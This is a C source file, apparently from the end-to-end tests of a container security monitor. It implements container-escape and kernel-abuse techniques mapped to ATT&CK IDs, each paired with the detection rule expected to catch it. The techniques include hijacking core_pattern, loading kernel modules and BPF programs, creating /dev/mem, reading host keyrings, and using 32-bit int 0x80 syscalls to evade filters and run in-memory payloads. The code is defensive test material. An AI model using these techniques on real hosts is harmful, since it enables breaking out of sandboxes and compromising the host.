/* SPDX-License-Identifier: Apache-2.0 */
/* By interfaces of the kernel that a service has no use for. */
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/e2e/escapes/techniques/technique.h"

#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
#define IA32_MEMFD_CREATE 356
#define IA32_KILL 37
#define IA32_OPEN 5
#define BIOS 0xf0000 /* memory that may be read in spite of CONFIG_STRICT_DEVMEM */
#define KMSG_TEXT "lutra-escape"

/* A program of the host's runs for the next crash. */
static int core_pattern(int victim)
{
	int r = text_write(CORE_PATTERN, "|" HOST_SCRIPT "\n");
	pid_t pid;

	(void)victim;
	if (r)
		return r;
	pid = fork();
	if (pid == 0) {
		setrlimit(RLIMIT_CORE, &(struct rlimit){RLIM_INFINITY, RLIM_INFINITY});
		signal(SIGABRT, SIG_DFL);
		abort();
	}
	waitpid(pid, &r, 0);
	return pid < 0 ? errno : WIFSIGNALED(r) && WTERMSIG(r) == SIGABRT ? 0 : status_of(r);
}

static int by_finit_module(int victim)
{
	int fd = open(MODULE, O_RDONLY | O_CLOEXEC);

	(void)victim;
	return fd < 0 ? errno : FAILED(syscall(SYS_finit_module, fd, "max_loop=1", 0));
}

static int by_init_module(int victim)
{
	int fd = open(MODULE, O_RDONLY | O_CLOEXEC);
	struct stat st;
	void *image;

	(void)victim;
	if (fd < 0 || fstat(fd, &st) < 0)
		return errno;
	image = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (image == MAP_FAILED)
		return errno;
	return FAILED(syscall(SYS_init_module, image, st.st_size, "max_loop=1"));
}

static bool module_loaded(struct host *h)
{
	(void)h;
	return access("/sys/module/loop/initstate", F_OK) == 0;
}

static int load_bpf(int victim)
{
	/* r0 = 0; exit */
	const struct bpf_insn insns[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K},
					 {.code = BPF_JMP | BPF_EXIT}};
	union bpf_attr load = {.prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
			       .insns = (unsigned long)insns,
			       .insn_cnt = 2,
			       .license = (unsigned long)"GPL"};
	union bpf_attr pin = {.pathname = (unsigned long)PINNED};

	(void)victim;
	pin.bpf_fd = (unsigned)syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof(load));
	if ((int)pin.bpf_fd < 0)
		return errno;
	return FAILED(syscall(SYS_bpf, BPF_OBJ_PIN, &pin, sizeof(pin)));
}

static bool is_pinned(struct host *h)
{
	(void)h;
	return access(PINNED, F_OK) == 0;
}

static int open_memory_device(const char *path, unsigned minor, int flags)
{
	unlink(path);
	if (mknod(path, S_IFCHR | 0600, makedev(1, minor)) < 0)
		return -1;
	return open(path, flags | O_CLOEXEC);
}

static int memory_device(int victim)
{
	int fd = open_memory_device("/tmp/mem", 1, O_RDWR);
	char bytes[16];

	(void)victim;
	if (fd < 0 || pread(fd, bytes, sizeof(bytes), BIOS) != sizeof(bytes))
		return errno;
	prove_gain();
	return 0;
}

static int kernel_messages(int victim)
{
	int fd = open_memory_device("/tmp/kmsg", 11, O_WRONLY);

	(void)victim;
	return fd < 0 ? errno : FAILED(write(fd, "<7>" KMSG_TEXT "\n", sizeof(KMSG_TEXT) + 3));
}

/* What is new in the kernel's log. */
static bool message_there(struct host *h)
{
	char line[1024];
	bool found = false;
	ssize_t n;

	while ((n = read(h->kmsg, line, sizeof(line) - 1)) > 0 || (n < 0 && errno == EPIPE))
		if (n > 0)
			found |= memmem(line, (size_t)n, KMSG_TEXT, strlen(KMSG_TEXT)) != NULL;
	return found;
}

static int kernel_log(int victim)
{
	static char text[1 << 16];
	int n = klogctl(3 /* read all */, text, sizeof(text));

	(void)victim;
	if (n > 0)
		prove_gain();
	return FAILED(n);
}

/* The host's keys of the same user. */
static int read_keyring(int victim)
{
	char text[sizeof(FLAG)] = "";
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "escape", 0);

	(void)victim;
	if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text) - 1) < 0)
		return errno;
	if (strcmp(text, FLAG) != 0)
		return ENOENT;
	prove_gain();
	return 0;
}

static int performance_event(int victim)
{
	struct perf_event_attr a = {
		.type = PERF_TYPE_SOFTWARE, .size = sizeof(a), .config = PERF_COUNT_SW_CPU_CLOCK};
	int fd = (int)syscall(SYS_perf_event_open, &a, -1, 0, -1, 0);
	unsigned long count;

	(void)victim;
	if (fd < 0 || read(fd, &count, sizeof(count)) != sizeof(count))
		return errno;
	prove_gain();
	return 0;
}

static int fault_handler(int victim)
{
	struct uffdio_api api = {.api = UFFD_API};
	int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);

	(void)victim;
	if (fd < 0 || ioctl(fd, UFFDIO_API, &api) < 0)
		return errno;
	prove_gain();
	return 0;
}

/* open(2) by the 32-bit entry, whose numbers are others. Strings lie below 4 GiB for that. */
static int call_32_bit(int victim)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long r;

	(void)victim;
	if (low == MAP_FAILED)
		return errno;
	memcpy(low, SECRET, sizeof(SECRET));
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(IA32_OPEN), "b"(low), "c"(O_RDONLY), "d"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	return r < 0 ? (int)-r : flag_read((int)r);
}

/* A call of the 32-bit entry, by its number there. */
static int enter_by_32_bit(long nr, long first, long second)
{
	long r = nr;

	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(first), "c"(second), "d"(0), "S"(0), "D"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	return r < 0 ? (int)-r : 0;
}

static int signal_by_32_bit(int victim)
{
	return enter_by_32_bit(IA32_KILL, victim, SIGUSR1);
}

/* A program in memory, made by a 32-bit call. */
static int memory_file_by_32_bit(int victim)
{
	long r = IA32_MEMFD_CREATE;
	int error;
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	(void)victim;
	if (low == MAP_FAILED)
		return errno;
	memcpy(low, "note", 5);
	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(low), "c"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0)
		return (int)-r;
	error = payload_write((int)r);
	return error ? error : payload_run(NULL, (int)r);
}

/* To the port of the power-on self-test, where nothing listens. */
static int raw_io(int victim)
{
	(void)victim;
	if (syscall(SYS_iopl, 3) < 0)
		return errno;
	__asm__ volatile("outb %b0, %w1" : : "a"(0), "d"(0x80));
	prove_gain();
	return 0;
}

const struct technique kernel_techniques[] = {
	{"core_pattern", "T1611", "sets the program that the host runs for a crash, and crashes",
	 .seen = "open w file /proc/sys/kernel/core_pattern", .run = core_pattern,
	 .probe = host_ran},
	{"finit_module", "T1547.006", "loads a kernel module", .seen = "^finit_module ",
	 .stopped = "^finit_module ", .hook = "capable", .run = by_finit_module,
	 .probe = module_loaded},
	{"init_module", "T1547.006", "loads a kernel module from memory", .seen = "^init_module ",
	 .hook = "capable", .run = by_init_module, .probe = module_loaded},
	{"bpf_prog_load", "T1014", "loads a BPF program and pins it", .seen = "^bpf ",
	 .hook = "capable", .run = load_bpf, .probe = is_pinned},
	{"dev_mem", "T1611", "opens the machine's memory and reads it", .seen = "mknod /tmp/mem",
	 .also = "open w chardev /tmp/mem", .stopped = "^mknod|/tmp/mem", .hook = "capable",
	 .run = memory_device},
	{"kmsg", "T1562", "writes to the kernel's log", .seen = "mknod /tmp/kmsg",
	 .also = "open w chardev /tmp/kmsg", .stopped = "^mknod|/tmp/kmsg", .hook = "capable",
	 .run = kernel_messages, .probe = message_there},
	{"syslog", "T1082", "reads the kernel's log", .seen = "^syslog |hook syslog",
	 .run = kernel_log},
	{"keyctl", "T1552", "reads a key of the host's, of the same user", .seen = "^keyctl ",
	 .run = read_keyring},
	{"perf_event_open", "T1082", "watches the whole processor", .seen = "^perf_event_open ",
	 .hook = "capable", .run = performance_event},
	{"userfaultfd", "T1068", "handles its own page faults, as kernel exploits do",
	 .seen = "^userfaultfd ", .hook = "capable", .run = fault_handler},
	{"int80", "T1106", "reads a credential by a 32-bit call", .seen = "open r file " SECRET,
	 .run = call_32_bit},
	{"int80_memory_file", "T1620", "executes a program from memory, made by a 32-bit call",
	 .seen = "^ia32:356 ", .also = "^execveat exec .*memfd",
	 .stopped = "^ia32:356 |^execveat exec ", .hook = "file_alloc_security",
	 .run = memory_file_by_32_bit, .probe = program_ran},
	{"int80_signal", "T1489", "signals a host process by a 32-bit call",
	 .seen = "hook task_kill|^ia32:37 ", .run = signal_by_32_bit, .probe = was_signalled},
	{"iopl", "T1611", "takes the right to do raw I/O, and does",
	 .seen = "^iopl |capable sys_rawio$", .run = raw_io},
	{0},
};
